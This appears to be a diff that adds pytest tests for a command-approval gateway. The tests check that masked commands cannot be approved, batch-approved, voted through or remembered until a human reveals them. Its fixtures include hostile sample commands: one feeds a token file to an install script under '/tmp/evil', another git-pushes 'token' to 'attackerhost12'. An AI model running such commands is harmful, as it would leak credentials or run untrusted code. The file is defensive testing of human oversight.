@@ -1,0 +1,90 @@
+"""What a mask could hide is decided where it was revealed, whatever a click claims to have seen."""
+
+from __future__ import annotations
+
+from dataclasses import replace
+from typing import Any
+
+import pytest
+
+from gateway.errors import BatchRefused, InvalidRequest
+from gateway.grants.offers import offers
+from gateway.models import Action, Kind, Status
+from gateway.records import Record, Remember
+from gateway.rulebook import Route
+from tests.world import World, click, identity, policy
+
+HIDING = {
+    "kind": Kind.COMMAND,
+    "arguments": {"command": "xargs -a token /tmp/evil/install.sh"},
+    "allowed": (Action.APPROVE, Action.EDIT, Action.RESPOND, Action.ABORT),
+}
+CONTENT: dict[Action, dict[str, Any]] = {
+    Action.APPROVE: {},
+    Action.EDIT: {"arguments": {"command": "ls"}},
+    Action.RESPOND: {"result": "no"},
+}
+
+
+async def status(world: World, record: Record) -> Status:
+    """Return how a request stands."""
+    return (await world.approvals.get(record.id)).status
+
+
+@pytest.mark.parametrize("action", CONTENT)
+async def test_a_click_made_where_it_is_masked_lets_nothing_run(
+    world: World, action: Action
+) -> None:
+    """Forged or old, it is refused and says where to go; on a revealed card it decides."""
+    record = await world.submit(**HIDING)
+    tap = click(record, action, **CONTENT[action])
+    with pytest.raises(InvalidRequest, match="in the inbox only"):
+        await world.approvals.decide(tap)
+    assert await status(world, record) is Status.PENDING
+    assert (await world.approvals.decide(replace(tap, revealed=True))).status is Status.APPROVED
+
+
+@pytest.mark.parametrize("action", [Action.DENY, Action.ABORT])
+async def test_no_is_possible_all_the_same(world: World, action: Action) -> None:
+    """Who sees only a mask may well say no."""
+    record = await world.submit(**HIDING)
+    assert (await world.approvals.decide(click(record, action))).status is Status.DENIED
+
+
+async def test_a_vote_and_a_batch_are_refused_as_well(world: World) -> None:
+    """Each of a quorum reveals it, and no batch approves it."""
+    await policy(world.store, Route(approvers=("ann", "bob"), quorum=2))
+    world.approvals.forget_policy()
+    record, other = await world.submit(**HIDING), await world.submit()
+    voted = await world.approvals.decide(click(record, revealed=True))
+    with pytest.raises(InvalidRequest, match="in the inbox only"):
+        await world.approvals.decide(click(voted, identity=identity("bob")))
+    with pytest.raises(BatchRefused) as refused:
+        await world.approvals.decide_all([click(other), click(record)])
+    assert list(refused.value.reasons) == [record.id]
+    assert await status(world, other) is Status.PENDING
+
+
+async def test_what_an_edit_put_in_is_judged_anew(world: World) -> None:
+    """A partner, who sees the editor's words masked, approves them revealed only."""
+    await policy(world.store, Route(approvers=("ann", "bob"), quorum=2))
+    world.approvals.forget_policy()
+    record = await world.submit(**{**HIDING, "arguments": {"command": "ls"}})
+    edit = click(record, Action.EDIT, arguments=HIDING["arguments"])
+    edited = await world.approvals.decide(edit)
+    partner = click(edited, identity=identity("bob"))
+    with pytest.raises(InvalidRequest, match="in the inbox only"):
+        await world.approvals.decide(partner)
+    assert (await world.approvals.decide(replace(partner, revealed=True))).final
+
+
+async def test_words_that_hide_something_are_not_remembered_unrevealed(world: World) -> None:
+    """An offer's id can be forged; its words put together what stood apart."""
+    command = ["git", "push", "token", "attackerhost12"]
+    record = await world.submit(**{**HIDING, "arguments": {"command": command}})
+    offer = next(one for one in offers(record) if "attackerhost12" in one.words)
+    tap = click(record, remember=Remember(offer=offer.id))
+    with pytest.raises(InvalidRequest, match="a mask hides what this would cover"):
+        await world.approvals.decide(tap)
+    assert await status(world, record) is Status.PENDING
+    assert (await world.approvals.decide(replace(tap, revealed=True))).final
